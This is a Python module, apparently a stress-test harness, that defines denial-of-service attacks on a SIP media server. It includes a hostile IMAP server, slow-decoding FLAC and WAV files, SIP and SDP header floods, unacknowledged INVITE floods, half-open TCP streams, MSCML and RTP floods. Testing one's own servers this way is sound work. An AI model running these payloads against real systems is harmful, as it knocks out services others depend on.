"""Attacks on the media server: by callers, and by mail and IMAP servers that callers name.

The IMAP server of these attacks is in the attacking process. It gives every URL the same part, or sends what no IMAP
server sends.
"""

from __future__ import annotations

import io
import itertools
import socket
import struct
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from contextlib import suppress

import av
import numpy as np

from speed.hostile_imap import Attack
from speed.hostile_nodes import HostilePlace
from speed.hostile_sip import URL, announcement, establish, listen, offer, request

MAIL_PORT = 1143
_PIECE = 1 << 18
_MSCML = b'<?xml version="1.0"?><MediaServerControl version="1.0"><request>%s</request></MediaServerControl>'
_FIELDS = (
    "Contact: " + "<sip:a>," * 7000 + "<sip:a>\r\n",
    "Via: " + "SIP/2.0/UDP a;branch=1, " * 2400 + "SIP/2.0/UDP a\r\n",
)
_FOLDED = "Subject: " + "a\r\n " * 12_000 + "a\r\n"
_NESTED = b"multipart/mixed;boundary=a"
Send = Callable[[bytes], None]


def silent_flac(seconds: int, rate: int = 192_000, channels: str = "7.1") -> bytes:
    """Return a FLAC file of silence, which is small and takes long to decode."""
    target = io.BytesIO()
    with av.open(target, "w", format="flac") as container:
        stream = container.add_stream("flac", rate=rate, layout=channels)
        silence = np.zeros((1, rate * len(stream.layout.channels)), np.int16)
        for _ in range(seconds):
            frame = av.AudioFrame.from_ndarray(silence, "s16", channels)
            frame.sample_rate = rate
            container.mux(stream.encode(frame))
        container.mux(stream.encode(None))
    return target.getvalue()


def slow_flac() -> bytes:
    """Return the head of a FLAC file that says 1 Hz and a long sound (RFC 9639, section 8.2), and one frame's start."""
    told = (1 << 44) | (0 << 41) | (15 << 36) | (1 << 35)
    return (
        b"fLaC\x80\0\0\x22"
        + struct.pack(">HH", 4096, 4096)
        + bytes(6)
        + told.to_bytes(8, "big")
        + bytes(16)
        + b"\xff\xf8\xc9\x08"
    )


def slow_wav() -> bytes:
    """Return a WAV file with a sample rate of 1 Hz and blocks of 60,000 octets."""
    form = struct.pack("<HHIIHH", 1, 30_000, 1, 60_000, 60_000, 16)
    return (
        b"RIFF"
        + struct.pack("<I", 60_036)
        + b"WAVEfmt "
        + struct.pack("<I", 16)
        + form
        + b"data"
        + struct.pack("<I", 60_000)
        + bytes(60_000)
    )


def _serve(at: HostilePlace, answer: Callable[[Send, bytes], None]) -> None:
    """Serve IMAP in threads: LOGIN is accepted, and `answer(send, tag)` answers URLFETCH."""
    listener = socket.create_server((at.source(0), MAIL_PORT), backlog=100)

    def talk(connection: socket.socket) -> None:
        with suppress(OSError), connection, connection.makefile("rb") as lines:
            connection.sendall(b"* OK [CAPABILITY IMAP4rev1 AUTH=ANONYMOUS SASL-IR] ready\r\n")
            for line in lines:
                tag, name, *_ = line.split()
                if name == b"AUTHENTICATE":
                    connection.sendall(tag + b" OK [CAPABILITY IMAP4rev1 URLAUTH=BINARY] in\r\n")
                elif name == b"URLFETCH":
                    url = line.split(b'"')[1] if b'"' in line else line.split()[2].strip(b"(")
                    answer(connection.sendall, b'* URLFETCH "%s" ' % url)
                    connection.sendall(tag + b" OK done\r\n")
                else:
                    connection.sendall(b"* BYE\r\n" + tag + b" OK bye\r\n")

    def accept() -> None:
        while True:
            threading.Thread(target=talk, args=(listener.accept()[0],), daemon=True).start()

    threading.Thread(target=accept, daemon=True).start()


def _calls(at: HostilePlace, count: int, *, pause: float = 0.0) -> None:
    """Send INVITEs from different addresses, each with a URL of its own; nothing is acknowledged."""
    for number in range(count):
        with listen(at.source(1 + number)) as own:
            here = own.getsockname()
            uri = announcement(at.media, URL % (number + 1))
            own.sendto(request("INVITE", uri, here, f"a{number}", offer(9000, here[0])), at.media)
        time.sleep(pause)


def _part(content: Callable[[], bytes], calls: int, kind: str = "AUDIO FLAC") -> Callable[[HostilePlace], None]:
    """Return an attack by mailed sound: so many callers have a part played."""

    def run(at: HostilePlace) -> None:
        octets, numbers = content(), itertools.count()
        first, second = (f'"{word}"'.encode() for word in kind.split())

        def answer(send: Send, begin: bytes) -> None:
            # a comment behind the sound makes each part another one, so that none is played from memory
            ours = octets + b"%8d" % next(numbers)
            structure = b'(BODYPARTSTRUCTURE (%s %s NIL NIL NIL "BINARY" %d))' % (first, second, len(ours))
            send(begin + structure + b" (BINARY ~{%d}\r\n" % len(ours) + ours + b")\r\n")

        _serve(at, answer)
        _calls(at, calls)
        time.sleep(60)

    return run


def _answers(pieces: Callable[[bytes], Iterator[bytes]], calls: int = 10) -> Callable[[HostilePlace], None]:
    """Return an attack by an IMAP server that answers URLFETCH with these octets, on ten connections."""

    def run(at: HostilePlace) -> None:
        def answer(send: Send, begin: bytes) -> None:
            for piece in pieces(begin):
                send(piece)

        _serve(at, answer)
        for _ in range(20):
            _calls(at, calls)
            time.sleep(0.3)

    return run


def _long(begin: bytes) -> Iterator[bytes]:
    yield begin
    yield from [b"x" * _PIECE] * 64


def _lines(_begin: bytes) -> Iterator[bytes]:
    yield from [b"* 1 EXISTS\r\n" * 20_000] * 20


def _brackets(begin: bytes) -> Iterator[bytes]:
    yield begin + b"(" * 60_000 + b"\r\n"
    yield begin + b"(BODYPARTSTRUCTURE (" + b'("TEXT" "PLAIN" NIL NIL NIL "7BIT" 1 1)' * 1500 + b' "MIXED"))\r\n'


def _literals(begin: bytes) -> Iterator[bytes]:
    yield begin + b"(BINARY" + b" {1}\r\nx" * 100_000 + b")\r\n"


def _datagrams(*made: Callable[[tuple[str, int], str], bytes]) -> Callable[[HostilePlace], None]:
    """Return an attack that sends datagrams from 20 addresses, as fast as they can be sent with a pause after each."""

    def run(at: HostilePlace) -> None:
        sources = [listen(at.source(number)) for number in range(20)]
        for number in itertools.count():
            own = sources[number % 20]
            own.sendto(made[number % len(made)](own.getsockname(), f"d{number}"), at.media)
            time.sleep(0.01)

    return run


def _invite(at_lines: Sequence[str] = (), more: str = "") -> Callable[[tuple[str, int], str], bytes]:
    return lambda here, call: request(
        "INVITE", "sip:annc@a;play=/provisioned/control", here, call, offer(9000, here[0], at_lines), more=more
    )


def _options(here: tuple[str, int], call: str) -> bytes:
    return request("OPTIONS", "sip:a", here, call)


def _unacknowledged(at: HostilePlace) -> None:
    """Send INVITEs, whose 200 is never acknowledged."""
    for number in itertools.count():
        with listen(at.source(number)) as own:
            here = own.getsockname()
            uri = announcement(at.media, "/provisioned/control")
            own.sendto(request("INVITE", uri, here, f"u{number}", offer(9000, here[0])), at.media)
        time.sleep(0.005)


def _streams(octets: bytes) -> Callable[[HostilePlace], None]:
    """Return an attack by TCP connections that send octets and are left open."""

    def run(at: HostilePlace) -> None:
        opened: list[socket.socket] = []
        for number in itertools.count():
            with suppress(OSError):
                made = socket.create_connection(at.media, 5, (at.source(number), 0))
                made.setblocking(False)
                made.send(octets)
                opened.append(made)
            if len(opened) > 500:
                opened.pop(0).close()

    return run


def _informed(*bodies: bytes) -> Callable[[HostilePlace], None]:
    """Return an attack inside a call: INFO after INFO with these MSCML bodies."""

    def run(at: HostilePlace) -> None:
        own = listen(at.source(1))
        uri = f"sip:ivr@{at.media[0]}:{at.media[1]}"
        to = establish(own, at.media, uri, "ivr", offer(9000, at.source(1)))
        own.setblocking(False)
        kind = "application/mediaservercontrol+xml"
        for number in itertools.count(2):
            body = bodies[number % len(bodies)]
            own.sendto(request("INFO", uri, own.getsockname(), "ivr", body, to=to, number=number, kind=kind), at.media)
            time.sleep(0.01)
            with suppress(BlockingIOError):
                own.recv(65536)

    return run


def _rtp(at: HostilePlace) -> None:
    """Send RTP, key presses and RTCP to all ports of calls, without a pause."""
    own = listen(at.source(1))
    establish(own, at.media, f"sip:ivr@{at.media[0]}:{at.media[1]}", "rtp", offer(9000, at.source(1)))
    sound = b"\x80\0\0\1\0\0\0\1\0\0\0\1" + bytes(1400)
    keys = b"\x80\x65\0\1\0\0\0\1\0\0\0\1\1\x0a\0\xa0"
    reports = b"\x80\xca\0\1\0\0\0\1" * 180
    for number in itertools.count():
        for port in range(20_000, 20_010):
            with suppress(OSError):
                own.sendto((sound, keys, reports)[number % 3], (at.media[0], port))


MEDIA_ATTACKS: Sequence[Attack] = (
    Attack("idle-call", "no attack, for comparison", lambda _at: time.sleep(60), "media"),
    Attack(
        "flac-silence",
        "twelve FLACs of 8 channels at 192 kHz, each of 40 s",
        _part(lambda: silent_flac(40), 12),
        "media",
        seconds=10,
    ),
    Attack(
        "flac-hours",
        "FLACs of silence that say a longer time than is played",
        _part(lambda: silent_flac(200, 8000, "mono"), 40),
        "media",
    ),
    Attack("flac-slow", "a FLAC that says 1 Hz", _part(slow_flac, 40), "media"),
    Attack("wav-slow", "a WAV that says 1 Hz and blocks of 60,000 octets", _part(slow_wav, 40, "AUDIO WAV"), "media"),
    Attack(
        "raw-long",
        "four parts of raw G.711 of 10 MB",
        _part(lambda: bytes(10_000_000), 4, "AUDIO BASIC"),
        "media",
        fetched=40,
    ),
    Attack("mail-line", "a line of 16 MB of an IMAP server", _answers(_long), "media"),
    Attack("mail-lines", "200,000 untagged lines of an IMAP server", _answers(_lines), "media"),
    Attack("mail-brackets", "brackets and parts in lines of 60 KB", _answers(_brackets), "media"),
    Attack("mail-literals", "100,000 literals in an answer", _answers(_literals), "media"),
    Attack("invites", "INVITEs whose 200 is never acknowledged, 200 a second", _unacknowledged, "media", seconds=6),
    Attack(
        "sip-values",
        "datagrams of 60 KB of Contact and Via values",
        _datagrams(_invite(more=_FIELDS[0]), _invite(more=_FIELDS[1])),
        "media",
    ),
    Attack(
        "sip-lines",
        "datagrams of 60 KB of short or folded lines",
        _datagrams(_invite(more="a: b\r\n" * 10_000), _invite(more=_FOLDED)),
        "media",
    ),
    Attack(
        "sip-sdp",
        "offers of 60 KB of lines",
        _datagrams(
            _invite(["a=x:y"] * 8000), _invite(["m=audio 9 RTP/AVP 0"] * 2500), _invite(["a=rtpmap:96 L16/8000"] * 2500)
        ),
        "media",
    ),
    Attack(
        "sip-options",
        "OPTIONS and nonsense from 20 addresses",
        _datagrams(_options, lambda _here, _call: b"\r\n\r\nx" * 1000),
        "media",
    ),
    Attack(
        "sip-streams",
        "TCP connections with messages that do not end",
        _streams(b"OPTIONS sip:a SIP/2.0\r\n" + b"a: b\r\n" * 4000),
        "media",
    ),
    Attack("sip-pings", "TCP connections with 30,000 empty lines each", _streams(b"\r\n\r\n" * 15_000), "media"),
    Attack(
        "mscml",
        "INFO with 60 KB of MSCML",
        _informed(
            _MSCML % (b"<play><prompt>" + b'<audio url="x"/>' * 3500 + b"</prompt></play>"),
            _MSCML % (b"<a/>" * 12_000),
            _MSCML % (b"<playcollect><pattern>" + b'<regex value="x"/>' * 3000 + b"</pattern></playcollect>"),
        ),
        "media",
    ),
    Attack("rtp", "RTP, key presses and RTCP to all ports of calls", _rtp, "media"),
)
